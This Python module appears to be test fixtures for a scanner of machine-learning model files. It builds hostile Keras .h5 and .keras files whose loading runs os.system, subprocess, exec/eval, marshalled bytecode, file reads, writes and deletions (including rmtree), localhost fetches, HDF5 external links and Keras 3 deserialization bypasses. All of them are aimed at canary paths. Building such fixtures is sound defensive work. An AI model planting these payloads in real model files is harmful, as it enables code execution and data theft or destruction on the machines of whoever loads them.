"""Keras files whose loading is the attack: what they call, what they name, what they link to."""

import base64
import io
import json
import marshal
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
from attacks import Aim, Attempt, write_file
from running_graphs import session_model
from tiny_tflite import BIASES, WEIGHTS

# What is done to a group of weights, for an aim.
Link = Callable[[Aim], Callable[[h5py.Group], None]]

Config = dict[str, Any]
_INPUT = {
    "class_name": "InputLayer",
    "config": {"batch_input_shape": [None, 4], "dtype": "float32", "name": "x"},
    "name": "x",
    "inbound_nodes": [],
}
_DENSE_CONFIG = {"name": "d", "units": 3, "activation": "linear", "dtype": "float32"}


def layer(class_name: str, settings: Config, *calls: Any, module: str = "keras.layers") -> Config:
    """A layer that is called when the model is made, with what `calls` has."""
    return {
        "class_name": class_name,
        "config": {"name": "attack", "trainable": True, "dtype": "float32", **settings},
        "name": "attack",
        "inbound_nodes": list(calls),
        "module": module,
        "registered_name": None,
    }


def functional(*attacks: Config) -> Config:
    """A model of tf_keras: y = W x + b; most attacks are on no path to it."""
    # An operator is on the way from the input to the output; a call with a constant cannot be.
    before = [each["name"] for each in attacks if each["class_name"] == "TensorFlowOpLayer"]
    inbound = [[[[*before, "x"][0], 0, 0, {}]]]
    dense = {"class_name": "Dense", "config": _DENSE_CONFIG, "name": "d", "inbound_nodes": inbound}
    settings = {
        "name": "m",
        "layers": [_INPUT, *attacks, dense],
        "input_layers": [["x", 0, 0]],
        "output_layers": [["d", 0, 0]],
    }
    return {"class_name": "Functional", "config": settings}


def sequential(*layers: Config) -> Config:
    """A model of Keras 3."""
    first = {"batch_shape": [None, 4], "dtype": "float32", "name": "x"}
    held = [{"module": "keras.layers", "class_name": "InputLayer", "config": first}, *layers]
    held.append({"module": "keras.layers", "class_name": "Dense", "config": _DENSE_CONFIG})
    settings = {"name": "m", "layers": held}
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": settings,
        "registered_name": None,
    }


def hdf5(path: Path, config: Config, change: Callable[[h5py.Group], None] | None = None) -> Path:
    """An .h5 file as tf_keras writes it; `change` is done to the weights of its dense layer."""
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        weights = file.create_group("model_weights")
        names = [each["config"]["name"] for each in config["config"]["layers"]]
        weights.attrs["layer_names"] = [name.encode() for name in names]
        for name in names:
            weights.create_group(name).attrs["weight_names"] = np.array([], "S1")
        if "d" in names:
            dense = weights["d"]
            dense.attrs["weight_names"] = [b"kernel:0", b"bias:0"]
            dense["kernel:0"] = WEIGHTS.astype(np.float32).T
            dense["bias:0"] = BIASES.astype(np.float32)
            if change:
                change(dense)
    return path


def archive(
    path: Path,
    config: Config,
    *,
    version: str = "3.15.1",
    change: Callable[[h5py.Group], None] | None = None,
    members: dict[str, bytes] | None = None,
) -> Path:
    """A .keras file of either Keras; of the second one where the version begins with 2."""
    config = {"module": "keras.src.engine.functional", "registered_name": "Functional", **config}
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        for place in ("vars", "layers/input_layer/vars"):
            file.create_group(place)
        held = file.create_group("layers/dense/vars")
        held["0"], held["1"] = WEIGHTS.astype(np.float32).T, BIASES.astype(np.float32)
        if change:
            change(held)
    files = {
        "metadata.json": json.dumps({"keras_version": version}).encode(),
        "config.json": json.dumps(config).encode(),
        "model.weights.h5": weights.getvalue(),
        **(members or {}),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in files.items():
            file.writestr(name, content)
    return path


# Functions of modules, which tf_keras imports.


def constant(value: Any, **keywords: Any) -> list[Any]:
    """A call with a value in place of a layer's output."""
    return ["_CONSTANT_VALUE", -1, value, keywords]


def function(module: str, name: str) -> Config:
    return {
        "class_name": "function", "module": module, "config": name, "registered_name": "function"
    }  # fmt: skip


def calling(module: str, name: str, argument: Any) -> Config:
    """A Lambda layer of a function, called with a constant."""
    settings = {"function": function(module, name), "function_type": "function", "arguments": {}}
    settings |= {"module": None, "output_shape": None, "output_shape_type": "raw"}
    settings |= {"output_shape_module": None}
    return layer("Lambda", settings, [constant(argument)])


def dumped(aim: Aim, *arguments: str) -> list[str | None]:
    """The bytecode of a function that writes, and returns the last of its arguments."""
    done = f"open({str(aim.written)!r}, 'w').close()"
    source = f"lambda {', '.join(arguments)}: [{done}, {arguments[-1]}][1]"
    code = marshal.dumps(compile(source, "f", "eval").co_consts[0])
    return [base64.b64encode(code).decode("ascii"), None, None]


def bytecode(aim: Aim) -> Config:
    settings = {"function": dumped(aim, "x"), "function_type": "lambda", "module": "__main__"}
    settings |= {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None}
    return layer("Lambda", {**settings, "arguments": {}}, [["x", 0, 0, {}]])


CALLS: dict[str, tuple[Attempt, Callable[[Aim], Config]]] = {
    "os.system": ("start", lambda a: calling("os", "system", str(a.program))),
    "subprocess.check_output": (
        "start", lambda a: calling("subprocess", "check_output", str(a.program))
    ),
    "os.mkdir": ("write", lambda a: calling("os", "mkdir", str(a.written))),
    "builtins.exec": (
        "write", lambda a: calling("builtins", "exec", f"open({str(a.written)!r}, 'w')")
    ),
    "builtins.eval": (
        "write", lambda a: calling("builtins", "eval", f"open({str(a.written)!r}, 'w')")
    ),
    "builtins.open": ("read", lambda a: calling("builtins", "open", str(a.canary))),
    "os.listdir": ("read", lambda a: calling("os", "listdir", str(a.canary.parent))),
    "runpy.run_path": ("read", lambda a: calling("runpy", "run_path", str(a.canary))),
    "os.remove": ("write", lambda a: calling("os", "remove", str(a.canary))),
    "urllib.request.urlopen": (
        "connect",
        lambda a: calling("urllib.request", "urlopen", f"http://127.0.0.1:{a.port}/"),
    ),
}  # fmt: skip


# Functions and operators of TensorFlow.


def tensorflow(symbol: str, argument: Any, **keywords: Any) -> Config:
    return layer("TFOpLambda", {"function": symbol}, constant(argument, **keywords))


def _inner(aim: Aim) -> Path:
    """A hostile SavedModel, which lies where the file says."""
    model = aim.canary.parent / "inner"
    return session_model(model, lambda body: write_file(body, aim), "initializer")


SYMBOLS: dict[str, tuple[Attempt, Callable[[Aim], Config]]] = {
    "io.write_file": (
        "write", lambda a: tensorflow("io.write_file", str(a.written), contents="x")
    ),
    "raw_ops.WriteFile": (
        "write", lambda a: tensorflow("raw_ops.WriteFile", str(a.written), contents="x")
    ),
    "compat.v1.write_file": (
        "write", lambda a: tensorflow("compat.v1.write_file", str(a.written), contents="x")
    ),
    "io.read_file": ("read", lambda a: tensorflow("io.read_file", str(a.canary))),
    "io.matching_files": (
        "read", lambda a: tensorflow("io.matching_files", f"{a.canary.parent}/*")
    ),
    "io.gfile.copy": (
        "read", lambda a: tensorflow("io.gfile.copy", str(a.canary), dst=str(a.written))
    ),
    "io.gfile.rename": (
        "write", lambda a: tensorflow("io.gfile.rename", str(a.canary), dst=str(a.written))
    ),
    "io.gfile.makedirs": ("write", lambda a: tensorflow("io.gfile.makedirs", str(a.written))),
    "io.gfile.remove": ("write", lambda a: tensorflow("io.gfile.remove", str(a.canary))),
    "io.gfile.rmtree": ("write", lambda a: tensorflow("io.gfile.rmtree", str(a.canary.parent))),
    "io.gfile.listdir": (
        "read", lambda a: tensorflow("io.gfile.listdir", str(a.canary.parent))
    ),
    "io.TFRecordWriter": ("write", lambda a: tensorflow("io.TFRecordWriter", str(a.written))),
    "summary.create_file_writer": (
        "write", lambda a: tensorflow("summary.create_file_writer", str(a.written))
    ),
    "saved_model.load": ("write", lambda a: tensorflow("saved_model.load", str(_inner(a)))),
    "train.load_checkpoint": (
        "read", lambda a: tensorflow("train.load_checkpoint", str(a.canary))
    ),
    "load_op_library": ("read", lambda a: tensorflow("load_op_library", str(a.canary))),
    "load_library": ("read", lambda a: tensorflow("load_library", str(a.canary))),
    "profiler.experimental.start": (
        "write", lambda a: tensorflow("profiler.experimental.start", str(a.written))
    ),
    "debugging.experimental.enable_dump_debug_info": (
        "write",
        lambda a: tensorflow(
            "debugging.experimental.enable_dump_debug_info", str(a.written),
            tensor_debug_mode="FULL_HEALTH",
        ),
    ),
    "profiler.experimental.server.start": (
        "connect", lambda a: tensorflow("profiler.experimental.server.start", a.port + 1)
    ),
    "keras.utils.get_file": (
        "connect",
        lambda a: tensorflow(
            "keras.utils.get_file", "f", origin=f"http://127.0.0.1:{a.port}/",
            cache_dir=str(a.written.parent),
        ),
    ),
    "keras.models.load_model": (
        "read", lambda a: tensorflow("keras.models.load_model", str(a.canary))
    ),
    "numpy_function": ("write", lambda _: tensorflow("numpy_function", "f", inp=[], Tout="int32")),
    "py_function": ("write", lambda _: tensorflow("py_function", "f", inp=[], Tout="int32")),
}  # fmt: skip


def operator_layer(aim: Aim) -> Config:
    """An operator, by its message, which dumps the model's input to files."""
    urls = base64.b64encode(f"file://{aim.written}".encode()).decode()
    attributes = {"T": {"type": "DT_FLOAT"}, "debug_urls": {"list": {"s": [urls]}}}
    attributes["tensor_name"] = {"s": base64.b64encode(b"x:0").decode()}
    message = {"name": "w", "op": "DebugIdentity", "input": ["x"], "attr": attributes}
    settings = {"node_def": message, "constants": {}, "name": "attack"}
    made = layer("TensorFlowOpLayer", {}, [["x", 0, 0, {}]])
    return {**made, "config": settings, "name": "tf_op_layer_attack"}


def class_method(aim: Aim) -> Config:
    settings = {
        "cls_symbol": "compat.v1.lite.TFLiteConverter", "method_name": "from_frozen_graph"
    }  # fmt: skip
    named = {"input_arrays": ["x"], "output_arrays": ["y"]}
    return layer("ClassMethod", settings, constant([str(aim.canary)], kwargs=named))


def slicing(aim: Aim) -> Config:
    return layer("SlicingOpLambda", {"function": "io.read_file"}, constant(str(aim.canary)))


OTHERS: dict[str, tuple[Attempt, Callable[[Aim], Config]]] = {
    "TensorFlowOpLayer": ("write", operator_layer),
    "ClassMethod": ("read", class_method),
    "SlicingOpLambda": ("read", slicing),
    "Lambda of bytecode": ("write", bytecode),
}


# Vocabularies that are files.


def words(class_name: str, aim: Aim) -> Config:
    settings: Config = {"name": "attack", "vocabulary": str(aim.canary)}
    dtype = "int64" if class_name == "IntegerLookup" else "string"
    if class_name == "TextVectorization":
        settings |= {"standardize": None, "split": None, "ngrams": None, "output_mode": "int"}
    else:
        settings |= {"num_oov_indices": 1}
    return layer(class_name, {**settings, "dtype": dtype}, [["x", 0, 0, {}]])


VOCABULARIES = ("StringLookup", "IntegerLookup", "TextVectorization")


# Weights that are in other files.


def external_link(aim: Aim) -> Callable[[h5py.Group], None]:
    def change(group: h5py.Group) -> None:
        name = _kernel(group)
        group[name] = h5py.ExternalLink(str(aim.canary), "/kernel")

    return change


def external_storage(aim: Aim) -> Callable[[h5py.Group], None]:
    def change(group: h5py.Group) -> None:
        group.create_dataset(
            _kernel(group), (4, 3), np.float32, external=[(str(aim.canary), 0, 48)]
        )

    return change


def virtual(aim: Aim) -> Callable[[h5py.Group], None]:
    def change(group: h5py.Group) -> None:
        layout = h5py.VirtualLayout(shape=(4, 3), dtype=np.float32)
        layout[:] = h5py.VirtualSource(str(aim.canary), "kernel", shape=(4, 3))
        group.create_virtual_dataset(_kernel(group), layout)

    return change


def _kernel(group: h5py.Group) -> str:
    """The name that the kernel had, which is free now."""
    name = "kernel:0" if "kernel:0" in group else "0"
    del group[name]
    return name


LINKS = {
    "external link": external_link,
    "external storage": external_storage,
    "virtual data set": virtual,
}


# What Keras 3 was once made to load. It refuses all of it by itself; so must the scan.


def _activation(value: Any) -> Config:
    return layer("Dense", {"name": "attack", "units": 3, "activation": value})


KERAS_3: dict[str, tuple[Attempt, Callable[[Aim], Config]]] = {
    "Lambda of bytecode": ("write", bytecode),
    "Lambda of a function": ("start", lambda a: calling("os", "system", str(a.program))),
    "function of a module": ("start", lambda _: _activation(function("os", "system"))),
    "built-in function": ("start", lambda _: _activation(function("builtins", "eval"))),
    "function of Keras that downloads": (
        "connect", lambda _: _activation(function("keras.utils", "get_file"))
    ),
    "model inside a model": (
        "read", lambda _: _activation(function("keras.models", "load_model"))
    ),
    "class of a module": (
        "start",
        lambda a: layer("Popen", {"args": str(a.program)}, module="subprocess"),
    ),
    "registered name": (
        "start",
        lambda _: {**layer("Dense", {"units": 3}), "registered_name": "subprocess>Popen"},
    ),
    "module of another package": (
        "read", lambda a: layer("Dense", {"path": str(a.canary)}, module="numpy.lib.npyio")
    ),
    "type specification": (
        "start",
        lambda a: _activation(
            {"class_name": "__typespec__", "spec_name": "system", "module": "os",
             "registered_name": None, "config": [str(a.program)]}
        ),
    ),
    "tokenizer that reads": (
        "read",
        lambda a: {
            **layer("BytePairTokenizer", {"vocabulary": str(a.canary), "merges": str(a.canary)},
                    module="keras_hub.src.tokenizers.byte_pair_tokenizer"),
            "registered_name": "keras_hub>BytePairTokenizer",
        },
    ),
}  # fmt: skip
